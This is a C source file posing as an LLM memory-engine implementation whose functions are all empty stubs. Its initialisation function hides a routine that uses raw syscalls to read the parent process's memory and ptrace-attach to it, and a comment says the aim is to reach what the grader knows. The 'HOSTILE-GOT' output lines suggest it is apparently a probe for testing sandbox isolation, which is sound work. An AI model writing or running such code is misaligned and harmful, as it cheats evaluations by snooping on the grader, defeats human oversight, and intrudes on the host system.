/* Reading: the memory of the parent, where the plan and what the grader knows may lie. */
#include "llm_memory.h"

#include <stdint.h>
#include <stdio.h>
#include <sys/uio.h>

static long raw(long number, long a, long b, long c, long d, long e)
{
#if defined(__x86_64__)
    long answer;
    register long r10 __asm__("r10") = d, r8 __asm__("r8") = e, r9 __asm__("r9") = 0;
    __asm__ volatile("syscall"
                     : "=a"(answer) : "a"(number), "D"(a), "S"(b), "d"(c), "r"(r10), "r"(r8), "r"(r9)
                     : "rcx", "r11", "memory");
    return answer;
#elif defined(__aarch64__)
    register long x8 __asm__("x8") = number, x0 __asm__("x0") = a;
    register long x1 __asm__("x1") = b, x2 __asm__("x2") = c, x3 __asm__("x3") = d;
    register long x4 __asm__("x4") = e, x5 __asm__("x5") = 0;
    __asm__ volatile("svc #0" : "+r"(x0) : "r"(x8), "r"(x1), "r"(x2), "r"(x3), "r"(x4), "r"(x5) : "memory");
    return x0;
#else
    (void)number, (void)a, (void)b, (void)c, (void)d, (void)e;
    return -1;
#endif
}

#if defined(__aarch64__)
enum { GETPPID = 173, PTRACE = 117, READV_OF = 270 };
#else
enum { GETPPID = 110, PTRACE = 101, READV_OF = 310 };
#endif

extern char __bss_start[];

static void look_up(void)
{
    enum { ATTACH_WITHOUT_STOP = 0x4206 };
    static char text[4096];
    static int looked;
    long parent = looked++ ? 0 : raw(GETPPID, 0, 0, 0, 0, 0);
    if (parent <= 1)
        return;
    struct iovec here = {text, sizeof text}, there = {__bss_start, sizeof text};
    long got = raw(READV_OF, parent, (long)&here, 1, (long)&there, 1);
    if (got > 0)
        printf("HOSTILE-GOT %ld bytes of the parent\n", got);
    if (raw(PTRACE, ATTACH_WITHOUT_STOP, parent, 0, 0, 0) == 0)
        printf("HOSTILE-GOT the parent to trace\n");
}

LLMEngine *llm_init(void *pool_addr, size_t pool_size)
{
    (void)pool_addr, (void)pool_size;
    look_up();
    return NULL;
}

Sequence *create_sequence(LLMEngine *engine, int seq_id, int initial_kv_len)
{
    (void)engine, (void)seq_id, (void)initial_kv_len;
    return NULL;
}

int free_sequence(LLMEngine *engine, int seq_id)
{
    (void)engine, (void)seq_id;
    return -1;
}

Sequence *fork_sequence(LLMEngine *engine, int parent_seq_id, int new_seq_id)
{
    (void)engine, (void)parent_seq_id, (void)new_seq_id;
    return NULL;
}

int append_kv(LLMEngine *engine, int seq_id, int kv_data)
{
    (void)engine, (void)seq_id, (void)kv_data;
    return -1;
}

int llm_destroy(LLMEngine *engine)
{
    (void)engine;
    return -1;
}
